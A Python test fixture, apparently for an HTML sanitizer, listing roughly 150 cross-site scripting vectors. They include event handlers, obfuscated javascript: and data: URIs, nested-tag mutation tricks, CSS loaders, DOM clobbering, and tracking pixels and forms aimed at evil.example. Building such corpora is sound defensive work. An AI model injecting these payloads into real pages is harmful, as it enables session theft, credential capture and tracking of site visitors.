"""HTML that tries to run, to load or to cover something. Each line by itself is a vector.

Of the kinds that cheat sheets on cross-site scripting collect: handlers, schemes, broken and nested tags, foreign
content that changes how the rest is read, styles, clobbering, and what asks a server for something.
"""

from __future__ import annotations

VECTORS = r'''
<script>ran()</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>ran()</scr</script>ipt>
<script/x>ran()</script>
<<script>ran();//<</script>
<script >ran()</script >
</title><script>ran()</script>
<!--><script>ran()</script>-->
<!--[if gte IE 4]><script>ran()</script><![endif]-->
<![CDATA[<script>ran()</script>]]>
<img src=x onerror=ran()>
<img src=x onerror="ran()">
<img src=x onerror='ran()'>
<img src=x onerror=`ran()`>
<img/src=x/onerror=ran()>
<img src="x` `<script>ran()</script>"` `>
<img src=x OnErRoR=ran()>
<img src=x onerror&#61;ran()>
<img src=x:x onerror=ran()//
<img """><script>ran()</script>">
<img src="javascript:ran()">
<img dynsrc="javascript:ran()">
<img lowsrc="javascript:ran()">
<img src=data:text/html,<script>ran()</script>>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran()'/>">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InJhbigpIi8+">
<img srcset="x 1x, javascript:ran() 2x">
<image src=x onerror=ran()>
<svg onload=ran()>
<svg><script>ran()</script></svg>
<svg><script href=data:,ran() /></svg>
<svg><animate onbegin=ran() attributeName=x dur=1s>
<svg><a xlink:href="javascript:ran()"><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:ran() /><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='ran()'/></svg>#x"/>
<svg><foreignObject><iframe srcdoc="<script>parent.ran()</script>"></iframe></foreignObject></svg>
<svg></p><style><a id="</style><img src=1 onerror=ran()>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">
<math><mi//xlink:href="data:x,<script>ran()</script>">
<math><a xlink:href="javascript:ran()">x</a></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>
<noscript><p title="</noscript><img src=x onerror=ran()>">
<noembed><img title="</noembed><img src onerror=ran()>"></noembed>
<textarea><img title="</textarea><img src onerror=ran()>"></textarea>
<xmp><img title="</xmp><img src onerror=ran()>"></xmp>
<select><style></select><img src=x onerror=ran()></style>
<template><script>ran()</script></template>
<plaintext><script>ran()</script>
<table><td background="javascript:ran()">
<table background="//evil.example/t.png"><tr><td>x</td></tr></table>
<body onload=ran()>
<body background="//evil.example/b.png">
<html onmouseover=ran()>x
<iframe src="javascript:ran()"></iframe>
<iframe srcdoc="<script>parent.ran()</script>"></iframe>
<iframe src="data:text/html,<script>parent.ran()</script>"></iframe>
<frameset onload=ran()><frame src="javascript:ran()"></frameset>
<object data="javascript:ran()"></object>
<object data="data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg=="></object>
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InJhbigpIi8+">
<applet code="x" codebase="//evil.example/"></applet>
<a href="javascript:ran()">x</a>
<a href="JaVaScRiPt:ran()">x</a>
<a href=" javascript:ran()">x</a>
<a href="java&#x0A;script:ran()">x</a>
<a href="java&Tab;script:ran()">x</a>
<a href="&#1;javascript:ran()">x</a>
<a href="javascript&colon;ran()">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;ran()">x</a>
<a href="vbscript:ran()">x</a>
<a href="data:text/html,<script>ran()</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==">x</a>
<a href="blob:http://evil.example/x">x</a>
<a href="file:///etc/passwd">x</a>
<a href="x" onclick="ran()">x</a>
<a href="http://a.example/" onmouseover=ran()>x</a>
<a href='x" onmouseover="ran()'>x</a>
<a href="http://a.example/" target="_top" ping="//evil.example/p">x</a>
<a style="position:fixed;inset:0" href="http://a.example/">x</a>
<div style="background:url(javascript:ran())">x</div>
<div style="background-image:url(//evil.example/x.png)">x</div>
<div style="background:\75\72\6c(//evil.example/x.png)">x</div>
<div style="width:expression(ran())">x</div>
<div style="color:red;behavior:url(x.htc)">x</div>
<div style="-moz-binding:url(//evil.example/x.xml)">x</div>
<div style="content:url(//evil.example/x)">x</div>
<div style="list-style:url(//evil.example/x.png)">x</div>
<div style="border-image:image-set('//evil.example/x.png' 1x)">x</div>
<div style="font-family:'x';background:u/**/rl(//evil.example/x)">x</div>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</div>
<p style="color:red}body{background:url(//evil.example/x)">x</p>
<style>@import '//evil.example/x.css';</style>
<style>body{background:url(//evil.example/x)}</style>
<link rel=stylesheet href="//evil.example/x.css">
<link rel=import href="data:text/html,<script>ran()</script>">
<link rel=prefetch href="//evil.example/x">
<meta http-equiv=refresh content="0;url=javascript:ran()">
<meta http-equiv=refresh content="0;url=//evil.example/">
<meta http-equiv=Content-Security-Policy content="script-src *">
<base href="//evil.example/">
<form action="javascript:ran()"><input type=submit></form>
<form action="//evil.example/"><input name=password autofocus onfocus=ran()></form>
<button formaction="javascript:ran()">x</button>
<input type=image src=x onerror=ran()>
<isindex action="javascript:ran()" type=image>
<video src=x onerror=ran()></video>
<video><source onerror=ran()></video>
<video poster="//evil.example/p.png"></video>
<audio src=x onerror=ran()></audio>
<details open ontoggle=ran()>x</details>
<marquee onstart=ran()>x</marquee>
<keygen autofocus onfocus=ran()>
<div contenteditable onfocus=ran() autofocus tabindex=1>x</div>
<dialog open oncancel=ran()>x</dialog>
<p id=ran name=ran>x</p>
<img name=getElementById src=x>
<form id=test><input name=parentNode></form>
<b onpointerenter=ran()>x</b>
<x onclick=ran()>x</x>
<custom-tag style="animation:x" onanimationstart=ran()></custom-tag>
<div data-remote-src="//evil.example/x.png">x</div>
<img data-remote-src="javascript:ran()" src="cid:1">
<img alt='" onerror="ran()' src=x>
<img alt="&quot; src=&quot;http://evil.example/x" src="cid:1">
<img title=' src="http://evil.example/x"' src="cid:1">
<a title="<img src=x onerror=ran()>" href="http://a.example/">x</a>
<a title='"><img src=x onerror=ran()>' href="http://a.example/">x</a>
<p title="&quot;&gt;&lt;img src=x onerror=ran()&gt;">x</p>
&lt;script&gt;ran()&lt;/script&gt;
%3Cscript%3Eran()%3C/script%3E
+ADw-script+AD4-ran()+ADw-/script+AD4-
<a href="http://[::1" onclick=ran()>x</a>
<a/href="j&NewLine;avascript:ran()">x</a>
<p/onclick=ran()/style=color:red>x
<b><i onclick=ran()></b></i onclick=ran()>
<img src="http://evil.example/pixel.png" width=1 height=1>
<img src="//evil.example/pixel.png">
<img src="HTTPS://evil.example/pixel.png">
<img src="http:/evil.example/pixel.png">
<img src="ht&#10;tp://evil.example/pixel.png">
<img src="\\evil.example\pixel.png">
<img src="/\evil.example/pixel.png">
<img src=" //evil.example/pixel.png">
<img src="&#9;//evil.example/pixel.png">
<img src="ftp://evil.example/pixel.png">
'''.strip().splitlines()
